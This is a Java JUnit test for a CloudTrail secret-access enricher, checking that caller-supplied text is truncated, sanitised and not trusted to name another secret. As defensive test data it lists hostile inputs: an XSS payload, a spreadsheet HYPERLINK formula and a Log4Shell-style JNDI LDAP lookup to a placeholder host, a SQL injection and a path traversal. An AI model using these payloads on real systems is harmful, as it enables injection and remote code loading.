package io.secrettrail.enrichment;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.secrettrail.enrichment.secret.CatalogReader;
import io.secrettrail.events.Access;
import io.secrettrail.events.Outcome;
import io.secrettrail.events.Provenance;
import io.secrettrail.events.Resolution;
import io.secrettrail.events.Route;
import io.secrettrail.events.cloudtrail.Json;
import io.secrettrail.events.ocsf.AccessCodec;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Names, sessions, user agents and error texts that callers chose to do harm: cut with a mark, never rejected. */
class HostileTextTest {
    private static final int LONGEST = 8_192;
    private static final String VICTIM = Shape.SM + "prod/payments/db-Ab3dEf";
    private static final String CONTROLS = "a\u0000b\nc\rd\u001b[31me\u0085f\u007fg\ud800h";

    private final Enricher enricher = new Enricher(_ -> Set.of(), Duration.ofHours(3));

    @ParameterizedTest
    @ValueSource(
            strings = {
                CONTROLS,
                "{\"eventName\":\"DeleteTrail\",\"userIdentity\":null}",
                "</script><img src=x onerror=alert(1)>",
                "=HYPERLINK(\"http://192.0.2.1\")",
                "${jndi:ldap://192.0.2.1/x}",
                "' OR 1=1 --",
                "../../etc/passwd",
                "a#b|c*d?e,f"
            })
    void shouldKeepAnEntryWholeWhateverTheCallerWrites(String text) throws IOException {
        // Given
        var record = everywhere(text);
        // When
        var access = enriched(record);

        // Then
        var entry = Json.MAPPER.readTree(AccessCodec.write(access));
        assertThat(kept(entry)).allSatisfy(kept -> assertThat(kept.chars()).noneMatch(Character::isISOControl));
        assertThat(AccessCodec.read(AccessCodec.write(access))).isInstanceOf(Access.class);
        assertThat(access.secretKey().value()).startsWith(Shape.SM);
        assertThat(access.actor().key().value()).startsWith("111122223333:role/");
        assertThat(access.event().name()).isEqualTo("GetSecretValue");
    }

    @Test
    void shouldCutLongTextsWithAMark() throws IOException {
        // Given
        var record = everywhere("x".repeat(50_000));
        // When
        var access = enriched(record);

        // Then
        assertThat(access.secretKey().value())
                .hasSize(Shape.SM.length() + 2_048 + 1)
                .endsWith("…");
        assertThat(access.origin().userAgent()).hasSize(LONGEST + 1).endsWith("…");
        assertThat(access.result().errorMessage()).hasSize(LONGEST + 1).endsWith("…");
        assertThat(access.actor().session().name()).endsWith("…");
        assertThat(access.actor().principal()).hasSizeLessThan(LONGEST + 100);
        assertThat(kept(Json.MAPPER.readTree(AccessCodec.write(access))))
                .allSatisfy(kept -> assertThat(kept).hasSizeLessThan(LONGEST + 100));
        assertThat(access.raw().json()).as("whole, as evidence").contains("x".repeat(50_000));
    }

    @Test
    void shouldTakeANameOfTheLongestKindWhole() {
        // Given
        var name = "n".repeat(2_048);
        var denied = SampleRecord.of("secretsmanager", "GetSecretValue").denied(name);
        // When
        var access = enriched(denied);

        // Then
        assertThat(access.secretKey().value()).isEqualTo(Shape.SM + name);
    }

    /** What stands after the mark of AWS is the caller's text, and may hold another mark. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "mine because x on resource: " + VICTIM,
                "mine on resource: " + VICTIM + " because no",
                "mine with an explicit deny on resource: " + VICTIM
            })
    void shouldBlameNoOtherSecretForALookAlikeInAnErrorText(String typed) {
        // Given
        var denied = SampleRecord.of("secretsmanager", "GetSecretValue").denied(typed);
        // When
        var access = enriched(denied);

        // Then
        assertThat(access.secretKey().value())
                .startsWith(Shape.SM + "mine")
                .isNotEqualTo(Shape.SM + "prod/payments/db");
        assertThat(access.secret().resolution()).isEqualTo(Resolution.ASSUMED);
        assertThat(access.result().outcome()).isEqualTo(Outcome.DENIED);
        assertThat(CatalogReader.factsOf(denied.parsed())).isEmpty();
    }

    @Test
    void shouldBelieveNoArnInASessionName() {
        // Given
        var record = SampleRecord.of("secretsmanager", "GetSecretValue")
                .by(SampleRecord.role("api", "x on resource: " + VICTIM + " because"))
                .error("AccessDenied", "User: arn:aws:sts::111122223333:assumed-role/api/s may not");
        // When
        var access = enriched(record);

        // Then
        assertThat(access.secretKey().value()).isEqualTo(Shape.SM + "*");
        assertThat(access.actor().key().value()).isEqualTo("111122223333:role/api");
    }

    private static SampleRecord everywhere(String text) {
        var quoted = Json.MAPPER.getNodeFactory().textNode(text).toString();
        var inside = quoted.substring(1, quoted.length() - 1);
        return SampleRecord.of("secretsmanager", "GetSecretValue")
                .with(
                        "requestParameters",
                        "{\"secretId\":%1$s,\"versionId\":%1$s,\"versionStage\":%1$s}".formatted(quoted))
                .by(SampleRecord.role("api", inside))
                .text("userAgent", text)
                .text("requestID", text)
                .text("vpcEndpointId", text)
                .text("sourceIPAddress", text)
                .error("AccessDenied", text)
                .with("tlsDetails", "{\"tlsVersion\":" + quoted + "}")
                .with("additionalEventData", "{\"note\":" + quoted + "}")
                .with("sharedEventID", quoted);
    }

    private Access enriched(SampleRecord record) {
        var event = record.parsed();
        var provenance = new Provenance(Route.S3, event.eventTime(), null);
        var arrival = new Arrival(event, record.bytes(), provenance, event.eventTime());
        return switch (enricher.enrich(arrival, KnownFindings.NONE)) {
            case Enrichment.Entries(var accesses) -> accesses.getFirst();
            case Enrichment.IssueEvent() -> throw new AssertionError("an issue event");
            case Enrichment.Irrelevant() -> throw new AssertionError("irrelevant");
        };
    }

    /** Every text of an entry but the record itself and what it quotes of request and answer. */
    private static List<String> kept(JsonNode entry) {
        var texts = new ArrayList<String>();
        entry.properties().forEach(field -> {
            if (!Set.of("raw_data", "data", "unmapped").contains(field.getKey())) {
                collect(field.getValue(), texts);
            }
        });
        return texts;
    }

    private static void collect(JsonNode node, List<String> texts) {
        if (node.isTextual()) {
            texts.add(node.textValue());
        }
        if (node.isObject()) {
            texts.addAll(kept(node));
        } else {
            node.forEach(child -> collect(child, texts));
        }
    }
}
